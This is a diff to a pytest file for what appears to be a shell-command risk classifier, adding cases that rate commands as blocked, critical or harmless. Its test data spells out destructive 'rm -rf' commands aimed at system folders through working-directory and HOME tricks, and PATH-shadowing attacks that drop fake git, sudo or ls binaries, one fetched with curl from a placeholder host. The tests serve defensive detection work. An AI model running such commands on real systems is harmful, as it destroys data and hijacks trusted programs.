@@ -9,7 +9,7 @@ import shlex
 import pytest
 
 from aintern_ls.safety import RiskLevel, assess
-from tests.safety._levels import B, C, M, S
+from tests.safety._levels import B, C, D, M, S
 
 
 def _rated(command: str, shell: str = "bash") -> RiskLevel:
@@ -261,4 +261,67 @@ _CONFIG_NOT_RAISED = [
 
 @pytest.mark.parametrize(("command", "level"), _CONFIG_NOT_RAISED)
 def test_config_text_not_raised(command: str, level: RiskLevel) -> None:
+    assert _rated(command) == level, command
+
+
+# 4. Where the command runs (F1, F3) and what a bare name runs (F17): a wrapper's working
+# folder (`env -C`, `sudo -D`), HOME reassigned before `~` is used; a file named like a common
+# command dropped in a PATH folder, `hash -p`, a temporary folder put first on PATH.
+_WHERE_BLOCKED = [
+    "env -C / rm -rf usr",
+    "env --chdir=/etc rm -rf ssh",
+    "sudo -D / rm -rf -- boot",
+    "sudo --chdir=/ rm -rf lib64",
+    "env -C / timeout 9 rm -rf var",
+    "env -C ~ rm -rf -- *",
+    "HOME=/; rm -rf ~/etc",
+    "export HOME=/usr\nrm -rf ~/lib",
+    "env HOME=/ bash -c 'rm -rf ~/bin'",
+    "printf '#!/bin/sh\\nrm -rf ~\\n' > /usr/local/bin/git",
+    "echo 'rm -rf /' | sudo tee /usr/local/bin/sudo",
+]
+
+
+@pytest.mark.parametrize("command", _WHERE_BLOCKED)
+def test_where_it_runs_blocked(command: str) -> None:
+    assert _rated(command) == B, command
+
+
+_WHERE_CRITICAL = [
+    "cp ./payload /usr/local/bin/ls",
+    "sudo install -m 0755 x /usr/local/sbin/sudo",
+    "ln -sf /tmp/e ~/.local/bin/python3",
+    "mv helper ~/bin/ssh",
+    "curl -o ~/.local/bin/git https://x.example/g",
+    "hash -p /tmp/x ls",
+    "hash -p ./fake sudo",
+    "export PATH=/tmp/b:$PATH\nls",
+    "PATH=.:$PATH make",
+    "PATH=/dev/shm/x:$PATH ssh host",
+]
+
+
+@pytest.mark.parametrize("command", _WHERE_CRITICAL)
+def test_path_shadows_critical(command: str) -> None:
+    assert _rated(command) == C, command
+
+
+_WHERE_NOT_RAISED = [
+    ("env -C /tmp/work rm -rf build", D),
+    ("sudo -D /srv/app rm -rf cache", C),  # (sudo itself is critical)
+    ("env -C src ls -la", S),
+    ("HOME=/tmp/h; rm -rf ~/x", D),
+    ("HOME=/tmp/h true; rm -rf ~/cache", D),
+    ("cp build/mytool ~/.local/bin/mytool", M),
+    ("cp target/release/fd /usr/local/bin/fd-find", M),
+    ("hash -p /usr/bin/python3 python", S),
+    ("hash -r", S),
+    ("export PATH=$HOME/.cargo/bin:$PATH", M),
+    ("echo /usr/local/bin/sudo", S),
+    ("grep -n PATH=/tmp ~/.bashrc", S),
+]
+
+
+@pytest.mark.parametrize(("command", "level"), _WHERE_NOT_RAISED)
+def test_where_it_runs_not_raised(command: str, level: RiskLevel) -> None:
     assert _rated(command) == level, command
